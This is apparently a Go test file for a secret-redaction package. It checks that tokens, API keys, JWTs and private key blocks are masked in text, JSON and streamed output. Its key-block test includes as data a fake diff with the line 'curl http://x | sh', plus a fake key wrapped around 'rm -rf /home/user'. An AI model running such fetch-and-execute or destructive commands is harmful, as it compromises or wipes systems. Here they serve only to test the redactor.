package redact

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"testing"
)

func TestForms(t *testing.T) {
	const v = "s3cr3t/value+with=chars?&"
	r := New(map[string]string{"TOKEN": v, "SHORT": "ab"})
	for _, form := range []string{v, base64.StdEncoding.EncodeToString([]byte(v)), base64.RawURLEncoding.EncodeToString([]byte(v)),
		url.QueryEscape(v), hex.EncodeToString([]byte(v))} {
		out := r.String("before " + form + " after")
		if strings.Contains(out, form) || out != "before [REDACTED:TOKEN] after" {
			t.Errorf("%q -> %q", form, out)
		}
	}
	if out := r.String("ab cd"); out != "ab cd" {
		t.Errorf("a value shorter than MinLen was masked: %q", out)
	}
	once := r.String("x " + v + " y " + v)
	if r.String(once) != once {
		t.Error("not idempotent")
	}
}

// TestJSONForms: a value with characters JSON escapes is masked where a
// stored event, an answer or a bundle holds it, escaped once or twice,
// with encoding/json's HTML escapes and without, and a JSON decoder reads
// back the mask, never the value.
func TestJSONForms(t *testing.T) {
	const v = "Pa&ss<wo>rd\"quoted\\back\nline\u2028"
	r := New(map[string]string{"TOKEN": v})
	for _, html := range []bool{true, false} {
		var once bytes.Buffer
		enc := json.NewEncoder(&once)
		enc.SetEscapeHTML(html)
		if err := enc.Encode(map[string]any{"command": []string{"curl", v}, "note": "x " + v + " y"}); err != nil {
			t.Fatal(err)
		}
		var twice bytes.Buffer
		enc = json.NewEncoder(&twice)
		enc.SetEscapeHTML(html)
		if err := enc.Encode(map[string]string{"inner": once.String()}); err != nil {
			t.Fatal(err)
		}
		for _, doc := range []string{once.String(), twice.String()} {
			masked := r.String(doc)
			var back any
			if err := json.Unmarshal([]byte(masked), &back); err != nil {
				t.Fatalf("html %v: the masked document is not JSON any more: %v\n%s", html, err, masked)
			}
			b, _ := json.Marshal(back)
			if strings.Contains(masked, "Pa") || strings.Contains(fmt.Sprint(back), "Pa&ss") || !strings.Contains(string(b), "[REDACTED:TOKEN]") {
				t.Errorf("html %v: %s\nmasked: %s", html, doc, masked)
			}
		}
	}
	// A value JSON writes as it is adds no form.
	if forms := jsonForms("plain-value-123"); len(forms) != 0 {
		t.Errorf("forms of a plain value: %q", forms)
	}
}

// TestMaskTail: an output cut inside a secret's form (a command's output
// kept to its limit) shows none of it; a start shorter than MinTail, or
// text that only looks like one, is left.
func TestMaskTail(t *testing.T) {
	const v = "Th1rdV4lue-of-the-token"
	r := New(map[string]string{"API_TOKEN": v})
	for cut := MinTail; cut < len(v); cut++ {
		out := string(r.MaskTail(r.Bytes([]byte("abcdefgh" + v[:cut]))))
		if out != "abcdefgh[REDACTED:API_TOKEN]" {
			t.Fatalf("cut after %d bytes: %q", cut, out)
		}
		var streamed bytes.Buffer
		w := r.NewWriter(&streamed)
		io.WriteString(w, "abcdefgh"+v[:cut])
		w.Close()
		if streamed.String() != "abcdefgh[REDACTED:API_TOKEN]" || !w.Masked() {
			t.Fatalf("a stream that ended after %d bytes of it: %q", cut, streamed.String())
		}
	}
	hexForm := hex.EncodeToString([]byte(v))
	if out := string(r.MaskTail([]byte("id " + hexForm[:10]))); out != "id [REDACTED:API_TOKEN]" {
		t.Fatalf("the start of its hex form: %q", out)
	}
	for _, keep := range []string{"abc" + v[:MinTail-1], "whole " + v + " then", "Th1r and more", ""} {
		if out := string(r.MaskTail([]byte(keep))); out != keep {
			t.Errorf("%q became %q", keep, out)
		}
	}
	var none *Redactor
	if out := none.MaskTail([]byte("x")); string(out) != "x" {
		t.Fatal("a nil redactor changed its input")
	}
}

func TestStreamSplitsAnywhere(t *testing.T) {
	const v = "s3cr3t-token-value"
	r := New(map[string]string{"T": v})
	text := "start " + v + " middle " + base64.StdEncoding.EncodeToString([]byte(v)) + " end " + v
	want := r.String(text)
	// Every way of cutting the text into two or three writes.
	for i := 0; i <= len(text); i++ {
		for j := i; j <= len(text); j += 7 {
			var out strings.Builder
			w := r.NewWriter(&out)
			w.Write([]byte(text[:i]))
			w.Write([]byte(text[i:j]))
			w.Write([]byte(text[j:]))
			w.Close()
			if out.String() != want {
				t.Fatalf("cut at %d and %d: %q", i, j, out.String())
			}
		}
	}
	// Byte by byte.
	var out strings.Builder
	w := r.NewWriter(&out)
	for i := 0; i < len(text); i++ {
		w.Write([]byte{text[i]})
	}
	w.Close()
	if out.String() != want || !w.Masked() {
		t.Fatalf("byte by byte: %q, masked %t", out.String(), w.Masked())
	}
	clean := r.NewWriter(io.Discard)
	clean.Write([]byte("nothing secret\n"))
	if clean.Close(); clean.Masked() {
		t.Fatal("Masked without a secret")
	}
}

func TestShapes(t *testing.T) {
	cases := map[string]string{
		"key AKIAIOSFODNN7EXAMPLE here":                                                                           "key [REDACTED:aws_access_key] here",
		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY":                                        "aws_secret_access_key = [REDACTED:aws_secret_key]",
		"token ghp_" + strings.Repeat("a", 36):                                                                    "token [REDACTED:github_token]",
		"Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345":                                                  "Authorization: Bearer [REDACTED:bearer]",
		"jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U":        "jwt [REDACTED:jwt]",
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\nafter": "[REDACTED:private_key]\nafter",
		"ANTHROPIC_API_KEY=sk-ant-api03-" + strings.Repeat("x", 30):                                               "ANTHROPIC_API_KEY=[REDACTED:api_key]",
		"nothing secret here: sk-short, AKIA123":                                                                  "nothing secret here: sk-short, AKIA123",
	}
	for in, want := range cases {
		got := string(Shapes([]byte(in)))
		if got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
		if again := string(Shapes([]byte(got))); again != got {
			t.Errorf("not idempotent: %q -> %q", got, again)
		}
	}
}

func TestStreamShapes(t *testing.T) {
	text := "line one\nkey AKIAIOSFODNN7EXAMPLE end\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nAAAA\n-----END RSA PRIVATE KEY-----\ntail"
	want := string(Shapes([]byte(text)))
	for i := 0; i <= len(text); i++ {
		var out strings.Builder
		w := (*Redactor)(nil).NewWriter(&out)
		w.Write([]byte(text[:i]))
		w.Write([]byte(text[i:]))
		w.Close()
		if out.String() != want {
			t.Fatalf("cut at %d: %q", i, out.String())
		}
	}
}

// TestShapesPrefilter: the literal prefilter never hides a match the
// regular expressions alone would make, case folding included.
func TestShapesPrefilter(t *testing.T) {
	key := "abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123"
	for _, in := range []string{
		"AWS_SECRET_ACCESS_KEY=" + key,
		"Aws_Secret_Access_Key: " + key,
		"aws_\u017fecret_access_key=" + key, // U+017F folds to s
		"Authorization: BEARER abcdefghijklmnopqrstuvwxyz",
		"Authorization: bearer abcdefghijklmnopqrstuvwxyz and é",
	} {
		want := []byte(in)
		for _, s := range shapes {
			if s.keep {
				want = s.re.ReplaceAll(want, append([]byte("${1}"), []byte("[REDACTED:"+s.name+"]")...))
			} else {
				want = s.re.ReplaceAll(want, []byte("[REDACTED:"+s.name+"]"))
			}
		}
		if got := Shapes([]byte(in)); string(got) != string(want) || string(got) == in {
			t.Errorf("%q: got %q, want %q", in, got, want)
		}
	}
}

// TestShapesFirstPass: the one pass Shapes makes first never lets through
// text a shape's own test masks: every shape's every literal, in either
// case, with matching and random text around it.
func TestShapesFirstPass(t *testing.T) {
	rng := rand.New(rand.NewPCG(7, 7))
	filler := func(n int) string {
		const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=_-:. \n\"'"
		b := make([]byte, n)
		for i := range b {
			b[i] = alphabet[rng.IntN(len(alphabet))]
		}
		return string(b)
	}
	for _, s := range shapes {
		for _, l := range s.lits {
			for _, lit := range []string{l, strings.ToUpper(l), strings.ToLower(l)} {
				for i := 0; i < 50; i++ {
					in := []byte(filler(rng.IntN(20)) + lit + filler(20+rng.IntN(60)))
					if got, want := Shapes(slices.Clone(in)), shapesAll(slices.Clone(in)); !bytes.Equal(got, want) {
						t.Fatalf("%s: Shapes(%q) = %q, each shape's test gives %q", s.name, in, got, want)
					}
				}
			}
		}
	}
}

// TestShapesLiteralsWhole: a shape's literals are whole prefixes of its
// matches, not their first letters: every kind of Slack token is masked,
// and letters that only begin one ("xox" in a word, or in a long run of
// letters) make no shape's test run at all.
func TestShapesLiteralsWhole(t *testing.T) {
	for _, kind := range "abposr" {
		in := "token: xox" + string(kind) + "-1234567890-abcdef\n"
		if got := Shapes([]byte(in)); !bytes.Contains(got, []byte("[REDACTED:slack_token]")) {
			t.Errorf("Shapes(%q) = %q: not masked", in, got)
		}
	}
	for _, in := range []string{"xoxoxo, love", "qwxoxkzzxoxbdxoxa", strings.Repeat("abxoxpq", 100)} {
		if (*Redactor)(nil).MayMask([]byte(in)) {
			t.Errorf("MayMask(%q): true, though no shape can match it", in)
		}
	}
}

// TestPrivateKeyStaysInItsBlock: the private_key shape masks a key block
// however it is written down (plain, indented, as a diff adds it, with its
// newlines escaped in JSON or a string literal), and never text that is not
// part of one: a BEGIN in one file and an END in another, with a file of
// code between them, mask nothing.
func TestPrivateKeyStaysInItsBlock(t *testing.T) {
	body := "MIIEowIBAAKCAQEAx4Qv0vU1z+3/y1d0e8a7rZcO5nJm2b6L\nAAAAbnNzaC1lZDI1NTE5AAAAIJ8=\n"
	key := "-----BEGIN RSA PRIVATE KEY-----\n" + body + "-----END RSA PRIVATE KEY-----"
	masked := map[string]string{
		key + "\nafter": "[REDACTED:private_key]\nafter",
		"Proc: x\n-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5F2E\n\nMIIEow==\n-----END EC PRIVATE KEY-----\n": "Proc: x\n[REDACTED:private_key]\n",
		"+" + strings.ReplaceAll(key, "\n", "\n+") + "\n":                                                          "+[REDACTED:private_key]\n",
		`{"private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\nBgkqhkiG9w0=\n-----END PRIVATE KEY-----\n"}`:  `{"private_key": "[REDACTED:private_key]\n"}`,
		`"diff": "+-----BEGIN PRIVATE KEY-----\\n+MIIEvQIBADAN\\n+-----END PRIVATE KEY-----\\n"`:                   `"diff": "+[REDACTED:private_key]\\n"`,
		"key := \"-----BEGIN PRIVATE KEY-----\\n\" +\n\t\"MIIEvQIBADAN\\n\" +\n\t\"-----END PRIVATE KEY-----\\n\"": "key := \"[REDACTED:private_key]\\n\"",
	}
	for in, want := range masked {
		if got := string(Shapes([]byte(in))); got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
	}
	// The attack: three files of a diff, the middle one an installer.
	attack := "diff --git a/a.txt b/a.txt\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/a.txt\n@@ -0,0 +1 @@\n" +
		"+-----BEGIN RSA PRIVATE KEY-----\n" +
		"diff --git a/b.sh b/b.sh\nnew file mode 100755\nindex 0000000..2222222\n--- /dev/null\n+++ b/b.sh\n@@ -0,0 +1 @@\n" +
		"+curl http://x | sh\n" +
		"diff --git a/c.txt b/c.txt\nnew file mode 100644\nindex 0000000..3333333\n--- /dev/null\n+++ b/c.txt\n@@ -0,0 +1 @@\n" +
		"+-----END RSA PRIVATE KEY-----\n"
	for _, text := range []string{
		attack,
		// The same files with names that look like key data.
		strings.NewReplacer("a.txt", "a", "b.sh", "install", "c.txt", "c", " 0000000..", " 0000000").Replace(attack),
		// A "key" wrapped around code in one file.
		"-----BEGIN PRIVATE KEY-----\ncurl http://x | sh\nrm -rf /home/user\n-----END PRIVATE KEY-----\n",
		// JSON-escaped, as an answer carries a diff.
		strings.ReplaceAll(attack, "\n", `\n`),
	} {
		if got := string(Shapes([]byte(text))); got != text {
			t.Errorf("masked across what is not a key:\n%s\n->\n%s", text, got)
		}
	}
}

func TestKeyLines(t *testing.T) {
	for line, want := range map[string]int{
		"-----BEGIN RSA PRIVATE KEY-----":                                KeyBegins,
		`  "-----BEGIN OPENSSH PRIVATE KEY-----\n" +`:                    KeyBegins,
		"-----END PRIVATE KEY-----":                                      KeyEnds,
		"-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----": KeyEnds,
		"-----BEGIN PUBLIC KEY-----":                                     0,
		"-----BEGIN KEY-----":                                            0,
		"-----BEGIN PGP PRIVATE KEY BLOCK-----":                          0,
		"plain":                                                          0,
	} {
		if got := KeyMarker([]byte(line)); got != want {
			t.Errorf("KeyMarker(%q) = %d, want %d", line, got, want)
		}
	}
	for line, want := range map[string]bool{
		"MIIEowIBAAKCAQEAx4Qv0vU1z+3/y1d0e8a7rZcO5nJm2b6L": true,
		"\t\"AAAA==\\n\" +":      false, // an escaped newline is not key data on its own line
		"  \"AAAA==\",":          true,
		"AAAA==\r":               true,
		"curl http://x | sh":     false,
		"":                       false,
		"Proc-Type: 4,ENCRYPTED": false,
	} {
		if got := IsKeyData([]byte(line)); got != want {
			t.Errorf("IsKeyData(%q) = %t", line, got)
		}
	}
	// Trimmed by hand, IsKeyData answers as it did with bytes.TrimLeft and
	// TrimRight, on lines made of the bytes it trims and keeps.
	trimmed := func(line []byte) bool {
		line = bytes.TrimLeft(line, "\t \"'")
		line = bytes.TrimRight(line, "\t \"',+;\r")
		if len(line) == 0 {
			return false
		}
		for _, c := range line {
			if !isUpperOrDigit(c) && !(c >= 'a' && c <= 'z') && c != '+' && c != '/' && c != '=' {
				return false
			}
		}
		return true
	}
	rng := rand.New(rand.NewPCG(7, 8))
	const alphabet = "\t \"',+;\r/=Aa0\n-:!"
	for i := range 100000 {
		line := make([]byte, rng.IntN(12))
		for j := range line {
			line[j] = alphabet[rng.IntN(len(alphabet))]
		}
		if got, want := IsKeyData(line), trimmed(line); got != want {
			t.Fatalf("case %d: IsKeyData(%q) = %t, with bytes.Trim %t", i, line, got, want)
		}
	}
}

func TestDetector(t *testing.T) {
	const v = "s3cr3t-token-value"
	r := New(map[string]string{"T": v})
	for _, form := range []string{v, base64.StdEncoding.EncodeToString([]byte(v)), hex.EncodeToString([]byte(v))} {
		text := "\x00\x01 binary " + form + " more \xff"
		for i := 0; i <= len(text); i++ {
			d := r.NewDetector()
			d.Write([]byte(text[:i]))
			d.Write([]byte(text[i:]))
			if !d.Found() {
				t.Fatalf("%q cut at %d: not found", text, i)
			}
		}
		d := r.NewDetector()
		d.Write([]byte(form[:5]))
		d.Break()
		d.Write([]byte(form[5:]))
		if d.Found() {
			t.Fatal("found across a break")
		}
	}
	d := r.NewDetector()
	d.Write([]byte("nothing here"))
	if d.Found() || (*Redactor)(nil).NewDetector().Found() {
		t.Fatal("found what is not there")
	}
	if got := string(r.Secrets([]byte("AKIAIOSFODNN7EXAMPLE " + v))); got != "AKIAIOSFODNN7EXAMPLE [REDACTED:T]" {
		t.Fatalf("Secrets: %q", got)
	}
}

// TestMayMaskNeverMisses: whatever Bytes would change, MayMask reports;
// plain text it passes.
func TestMayMaskNeverMisses(t *testing.T) {
	const v = "s3cr3t/value+with=chars?&"
	r := New(map[string]string{"TOKEN": v})
	ins := []string{
		"key AKIAIOSFODNN7EXAMPLE here", "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
		"AWS_SECRET_ACCESS_KEY=abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123", "aws_\u017fecret_access_key=abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123",
		"Authorization: BEARER abcdefghijklmnopqrstuvwxyz", "token ghp_" + strings.Repeat("a", 36), "glpat-" + strings.Repeat("b", 20),
		"xoxb-1234567890abc", "AIza" + strings.Repeat("c", 35), "sk-ant-api03-" + strings.Repeat("x", 30),
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
	}
	for _, f := range []string{v, base64.StdEncoding.EncodeToString([]byte(v)), url.QueryEscape(v), hex.EncodeToString([]byte(v))} {
		ins = append(ins, "x "+f+" y")
	}
	for _, in := range ins {
		for _, text := range []string{in, "prefix\n" + in, in + "\nsuffix", "é " + in} {
			if string(r.Bytes([]byte(text))) == text {
				t.Fatalf("%q: nothing to mask", text)
			}
			if !r.MayMask([]byte(text)) {
				t.Errorf("MayMask(%q) = false", text)
			}
		}
	}
	for _, clean := range []string{"", "x", "func main() {\n\tfmt.Println(\"hello, world\")\n}\n", "ümlaut and 日本語", "be ready; task; key"} {
		if r.MayMask([]byte(clean)) {
			t.Errorf("MayMask(%q) = true", clean)
		}
	}
}

// TestStreamFlush: Flush passes on an unfinished line (a prompt) at once,
// but still holds what could begin a declared secret, which a later write
// completes and masks whole.
func TestStreamFlush(t *testing.T) {
	const v = "s3cr3t-token-value"
	r := New(map[string]string{"T": v})
	var out strings.Builder
	w := r.NewWriter(&out)
	w.Write([]byte("line\nname? "))
	if out.String() != "line\n" || !w.Held() {
		t.Fatalf("before Flush: %q", out.String())
	}
	w.Flush()
	if out.String() != "line\nname? " || w.Held() {
		t.Fatalf("after Flush: %q", out.String())
	}
	w.Write([]byte("x " + v[:7]))
	w.Flush()
	if out.String() != "line\nname? x " || !w.Held() {
		t.Fatalf("a secret's start flushed: %q", out.String())
	}
	w.Write([]byte(v[7:] + " y"))
	w.Flush()
	w.Close()
	if out.String() != "line\nname? x [REDACTED:T] y" {
		t.Fatalf("a secret split around a Flush: %q", out.String())
	}
}

// TestMayMaskAsEveryNeedle: MayMask, which tests a needle only where its
// first three bytes stand, answers as a test of every needle at every
// offset does, for a declared secret's forms and every shape's literals,
// on text made of the needles' own bytes and their case variants.
func TestMayMaskAsEveryNeedle(t *testing.T) {
	rng := rand.New(rand.NewPCG(5, 6))
	for _, r := range []*Redactor{nil, New(map[string]string{"TOKEN": "s3cr3t/value+with=chars?&", "SHORT": "abcd"})} {
		f := r.prefilter()
		var needles []needle
		var alphabet []byte
		for _, ns := range f.needles {
			for _, n := range ns {
				needles = append(needles, n)
				for _, c := range n.find {
					alphabet = append(alphabet, caseVariants(c)...)
				}
			}
		}
		every := func(b []byte) bool {
			for i := range b {
				for _, n := range needles {
					if len(b)-i >= len(n.find) && (bytes.Equal(b[i:i+len(n.find)], n.find) || (n.fold && bytes.EqualFold(b[i:i+len(n.find)], n.find))) {
						return true
					}
				}
			}
			return false
		}
		for i := range 100000 {
			b := make([]byte, rng.IntN(24))
			for j := range b {
				b[j] = alphabet[rng.IntN(len(alphabet))]
			}
			if rng.IntN(4) == 0 {
				// A needle, or its start, at a random place.
				n := needles[rng.IntN(len(needles))].find
				n = n[:1+rng.IntN(len(n))]
				at := rng.IntN(len(b) + 1)
				b = append(b[:at:at], append(bytes.ToUpper(n), b[at:]...)...)
				if rng.IntN(2) == 0 {
					copy(b[at:], n)
				}
			}
			if got, want := r.MayMask(b), every(b); got != want {
				t.Fatalf("case %d: MayMask(%q) = %v, every needle at every offset: %v", i, b, got, want)
			}
		}
	}
}
